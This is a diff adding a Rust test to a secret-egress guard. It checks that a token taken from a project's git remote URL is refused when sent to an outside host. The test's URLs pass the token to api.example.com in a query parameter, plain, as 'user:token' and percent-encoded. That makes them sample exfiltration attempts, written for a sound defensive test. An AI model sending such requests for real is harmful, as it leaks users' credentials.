@@ -368,3 +368,39 @@ async fn a_secret_cut_into_short_pieces_with_filler_is_refused() {
     }
     assert!(!carries(&s.server.requests(), CUT_KEY));
 }
+
+// proves: BEYOND-6 (tui-rpc #8: a token in the project's git remote URL is a
+// known secret, so the door refuses to send it, alone or as `user:token`)
+#[tokio::test]
+async fn a_git_remote_token_of_the_project_never_leaves() {
+    const TOKEN: &str = "ghp_R3alT0kenValue1234567890abcdefABCD";
+    let s = setup().await;
+    let dir = std::env::temp_dir().join(format!("ploy-door-git-{}", std::process::id()));
+    std::fs::create_dir_all(dir.join(".git")).unwrap();
+    std::fs::write(
+        dir.join(".git/config"),
+        format!("[remote \"origin\"]\n\turl = https://alice:{TOKEN}@github.com/alice/repo.git\n"),
+    )
+    .unwrap();
+    let sources = ploy_secrets::SecretSources {
+        project: Some(dir.clone()),
+        ..Default::default()
+    };
+    let set = ploy_secrets::sources_secrets(&sources, &|_| None, &|_| false).unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
+    for url in [
+        format!("http://api.example.com/?d={TOKEN}"),
+        format!("http://api.example.com/?d=alice:{TOKEN}"),
+        format!("http://api.example.com/?d=alice%3A{TOKEN}"),
+    ] {
+        let outcome = get(&fetcher, &url).await;
+        assert_eq!(
+            refusal_rule(&outcome),
+            Some("BEYOND-6"),
+            "{url}: {outcome:?}"
+        );
+    }
+    assert!(s.server.requests().is_empty());
+    assert_eq!(s.resolver.queries(), 0);
+}
